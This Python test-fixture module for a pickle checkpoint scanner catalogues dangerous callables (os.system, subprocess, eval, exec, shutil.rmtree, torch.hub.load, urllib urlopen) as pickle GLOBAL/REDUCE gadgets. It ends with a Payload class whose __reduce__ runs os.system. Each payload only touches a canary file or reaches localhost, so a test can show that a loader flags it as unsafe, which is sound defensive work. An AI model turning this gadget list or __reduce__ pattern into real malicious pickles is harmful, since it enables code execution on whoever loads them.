"""Code that no checkpoint needs, reachable by name: what attackers and scanners' test suites use.

Each gadget is a global and the arguments of the call; where the call can leave a trace it makes the canary file, so that a
reader which runs anything is caught in the act.
"""

from __future__ import annotations

from typing import NamedTuple

from tests.corpus import asm


class Gadget(NamedTuple):
    """A call: `module.name(*args)`, the arguments as pickle code."""

    module: str
    name: str
    args: tuple[bytes, ...]

    @property
    def code(self) -> bytes:
        """The call by GLOBAL and REDUCE."""
        return asm.call(self.module, self.name, *self.args)


def certain(canary: str) -> list[Gadget]:
    """Give the calls that are nothing but an attack: `unsafe` is the only right answer."""
    shell = asm.text(f"touch {canary}")
    python = asm.text(f"open({canary!r}, 'w').close()")
    argv = asm.listing(asm.text("touch"), asm.text(canary))
    path = asm.text(canary)
    url = asm.text("http://127.0.0.1:9/x")
    calls = {
        "os system": (shell,),
        "os popen": (shell,),
        "os execvp": (asm.text("touch"), argv),
        "os spawnvp": (asm.integer(0), asm.text("touch"), argv),
        "os remove": (path,),
        "os rename": (path, path),
        "os putenv": (path, path),
        "os fork": (),
        "posix system": (shell,),
        "posix open": (path, asm.integer(65)),
        "posix unlink": (path,),
        "nt system": (shell,),
        "subprocess Popen": (argv,),
        "subprocess call": (argv,),
        "subprocess run": (argv,),
        "subprocess check_output": (argv,),
        "subprocess getoutput": (shell,),
        "_posixsubprocess fork_exec": (),
        "builtins eval": (python,),
        "builtins exec": (python,),
        "builtins compile": (python, path, asm.text("exec")),
        "builtins __import__": (asm.text("antigravity"),),
        "builtins open": (path, asm.text("w")),
        "builtins breakpoint": (),
        "__builtin__ eval": (python,),
        "__builtin__ execfile": (path,),
        "commands getoutput": (shell,),
        "runpy run_path": (path,),
        "runpy run_module": (asm.text("antigravity"),),
        "runpy _run_code": (python, asm.EMPTY_DICT),
        "code interact": (),
        "pty spawn": (argv,),
        "webbrowser open": (url,),
        "pip main": (asm.listing(asm.text("install"), asm.text("x")),),
        "pip._internal main": (asm.listing(asm.text("install"), asm.text("x")),),
        "timeit timeit": (python,),
        "cProfile run": (python,),
        "profile run": (python,),
        "pdb run": (python,),
        "doctest debug_script": (python,),
        "trace Trace": (),
        "ctypes CDLL": (asm.text("libc.so.6"),),
        "importlib import_module": (asm.text("antigravity"),),
        "pickle loads": (asm.text("x"),),
        "_pickle loads": (asm.text("x"),),
        "marshal loads": (asm.text("x"),),
        "types CodeType": (),
        "types FunctionType": (),
        "shutil rmtree": (path,),
        "socket create_connection": (asm.sequence(asm.text("127.0.0.1"), asm.integer(9)),),
        "urllib.request urlopen": (url,),
        "urllib.request urlretrieve": (url, path),
        "http.client HTTPConnection": (asm.text("127.0.0.1"),),
        "asyncio create_subprocess_shell": (shell,),
        "multiprocessing Process": (),
        "multiprocessing.util spawnv_passfds": (),
        "signal raise_signal": (asm.integer(9),),
        "sys exit": (),
        "sys settrace": (),
        "torch.hub load": (asm.text("evil/repo"), asm.text("x")),
        "torch.hub load_state_dict_from_url": (url,),
        "torch.utils.cpp_extension load_inline": (asm.text("x"),),
        "torch.jit.unsupported_tensor_ops execWrapper": (python, asm.EMPTY_DICT, asm.EMPTY_DICT),
        "torch.utils.collect_env run": (shell,),
        "numpy.testing._private.utils runstring": (python, asm.EMPTY_DICT),
        "numpy.f2py.crackfortran getlincoef": (python, asm.EMPTY_DICT),
        "numpy.f2py.diagnose run_command": (shell,),
        "uuid _get_command_stdout": (asm.text("touch"), path),
        "pydoc pipepager": (asm.text("x"), shell),
        "idlelib.pyshell ModifiedInterpreter": (),
        "logging.config listen": (),
        "venv create": (path,),
        "ensurepip bootstrap": (),
        "distutils.spawn spawn": (argv,),
    }
    return [Gadget(*name.split(" "), args) for name, args in calls.items()]


def exotic(canary: str) -> list[Gadget]:
    """Give calls that some real pickles hold, or that only a long list would know: never ok, and never run."""
    path = asm.text(canary)
    calls = {
        "builtins getattr": (asm.text("x"), asm.text("join")),
        "builtins setattr": (asm.text("x"), asm.text("y"), asm.integer(1)),
        "builtins map": (asm.named("builtins", "len"), asm.EMPTY_LIST),
        "functools partial": (asm.named("builtins", "len"),),
        "functools reduce": (asm.named("builtins", "len"), asm.EMPTY_LIST),
        "operator methodcaller": (asm.text("x"),),
        "operator attrgetter": (asm.text("x"),),
        "itertools starmap": (asm.named("builtins", "len"), asm.EMPTY_LIST),
        "torch load": (path,),
        "torch.jit load": (path,),
        "torch.storage _load_from_bytes": (asm.text("x"),),
        "torch.optim.sgd SGD": (),
        "numpy load": (path,),
        "numpy fromfile": (path,),
        "sqlite3 connect": (path,),
        "lib2to3.pgen2.grammar Grammar": (),
        "zipimport zipimporter": (path,),
        "tempfile mkdtemp": (),
        "threading Thread": (),
        "gzip open": (path,),
        "logging FileHandler": (path,),
        "joblib load": (path,),
        "cloudpickle loads": (path,),
        "dill loads": (path,),
        "yaml unsafe_load": (path,),
        "__main__ Model": (),
        "my_project.models Net": (),
        "nosuchmodule nosuchname": (),
    }
    return [Gadget(*name.split(" "), args) for name, args in calls.items()]


class Payload:
    """What a real pickler makes of an attack, in any protocol: `os.system("touch CANARY")`."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (f"touch {self.canary}",)
